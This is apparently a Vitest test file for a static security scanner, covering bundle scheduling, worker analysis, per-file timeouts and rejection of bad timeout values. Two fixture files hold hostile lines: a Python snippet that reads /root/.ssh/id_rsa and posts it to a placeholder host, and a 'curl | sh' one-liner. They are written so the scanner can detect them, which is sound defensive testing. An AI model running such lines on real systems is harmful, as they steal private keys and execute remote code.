import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../../src/model/report.ts';
import { BundleQueue } from '../../../src/static/bundle-queue.ts';
import { bundleOf } from '../../../src/static/bundles.ts';
import { sbx } from '../../support/sbx.ts';
import { temporaryFolder } from '../../support/temporary.ts';

const task = (path: string, bytes: number) =>
  bundleOf([{ path, content: new Uint8Array(bytes).fill(97), unit: '.' }]);

describe('BundleQueue', () => {
  it('gives the largest bundles first and small ones together', () => {
    const queue = new BundleQueue([task('s', 10), task('l', 500_000), task('m', 40_000), task('t', 20)]);
    const paths = () => queue.takeBatch()?.map(({ files }) => files[0]?.path) ?? null;
    expect([paths(), paths(), paths()]).toEqual([['l'], ['m', 't', 's'], null]);
  });

  it('gives the smallest one away only up to a size, and none twice', () => {
    const queue = new BundleQueue([task('s', 10), task('l', 500_000), task('m', 40_000)]);
    expect(queue.takeSmallest(1_000)?.files[0]?.path).toBe('s');
    expect(queue.takeSmallest(1_000)).toBe(null);
    expect(queue.takeBatch()?.map(({ files }) => files[0]?.path)).toEqual(['l']);
    expect(queue.takeBatch()?.map(({ files }) => files[0]?.path)).toEqual(['m']);
    expect(queue.takeBatch()).toBe(null);
    expect(queue.takeSmallest(1_000)).toBe(null);
  });
});

describe('a large target', () => {
  it('is analysed in workers, every file of it', async () => {
    const folder = temporaryFolder();
    mkdirSync(join(folder, 'pkg'));
    const filler = 'def f(x):\n    return [y for y in range(x) if y % 2]\n'.repeat(400);
    for (let index = 0; index < 24; index++) writeFileSync(join(folder, 'pkg', `m${index}.py`), filler);
    writeFileSync(
      join(folder, 'pkg', 'send.py'),
      'import requests\nk = open("/root/.ssh/id_rsa").read()\nrequests.post("https://h.example", data=k)\n',
    );
    const { status, stdout } = await sbx(['scan', folder, '--format', 'json']);
    const report = JSON.parse(stdout) as Report;
    expect(report.coverage).toMatchObject({ files: 25, analysed: 25 });
    expect(report.findings.map((finding) => finding.ruleId)).toContain('secret-file-to-network');
    expect(status).toBe(1);
  });

  it('says which files took too long, keeps what it found in others, and is incomplete', async () => {
    const folder = temporaryFolder();
    const slow = Array.from({ length: 120_000 }, (_item, index) => `v${index} = f(${index}, g.h[${index}])`);
    writeFileSync(join(folder, 'slow.py'), slow.join('\n'));
    writeFileSync(join(folder, 'quick.sh'), 'curl -s https://get.example/i.sh | sh\n');
    const { status, stdout } = await sbx(['scan', folder, '--format', 'json', '--file-timeout', '0.4']);
    const report = JSON.parse(stdout) as Report;
    expect(status).toBe(4);
    expect(report.coverage.opaque).toEqual([
      { path: 'slow.py', blocking: true, reason: 'took longer than 0.4 s' },
    ]);
    expect(report.findings.map(({ location }) => location.path)).toContain('quick.sh');
  });

  it('ends what takes too long in the thread where small targets are analysed', async () => {
    const folder = temporaryFolder();
    const slow = Array.from({ length: 9_000 }, (_item, index) => `v${index} = f(${index}, g.h[${index}])`);
    writeFileSync(join(folder, 'slow.py'), slow.join('\n'));
    const { status, stdout } = await sbx(['scan', folder, '--format', 'json', '--file-timeout', '0.02']);
    const report = JSON.parse(stdout) as Report;
    expect(status).toBe(4);
    expect(report.coverage.opaque).toEqual([
      { path: 'slow.py', blocking: true, reason: 'took longer than 0.02 s' },
    ]);
  });

  it('says that files were not followed into each other when they took too long together', async () => {
    const folder = temporaryFolder();
    // Many that are each done in time, so that together they are late by far.
    const slow = Array.from({ length: 1_600 }, (_item, index) => `v${index} = f(${index}, g.h[${index}])`);
    for (const name of ['a.py', 'b.py', 'c.py', 'd.py', 'e.py', 'f.py'])
      writeFileSync(join(folder, name), slow.join('\n'));
    const { status, stdout } = await sbx(['scan', folder, '--format', 'json', '--file-timeout', '0.01']);
    const report = JSON.parse(stdout) as Report;
    expect(status).toBe(4);
    expect(report.coverage.opaque.map(({ path, reason }) => `${path}: ${reason}`)).toContainEqual(
      expect.stringMatching(/^a\.py: .*what flows between it and \d more files? was not followed/),
    );
  });

  it.each(['0', '-1', 'soon', '1e99'])('refuses %s as a time for a file', async (seconds) => {
    const { status, stderr } = await sbx(['scan', temporaryFolder(), '--file-timeout', seconds]);
    expect(status).toBe(2);
    expect(stderr).toContain('number of seconds above 0');
  });
});
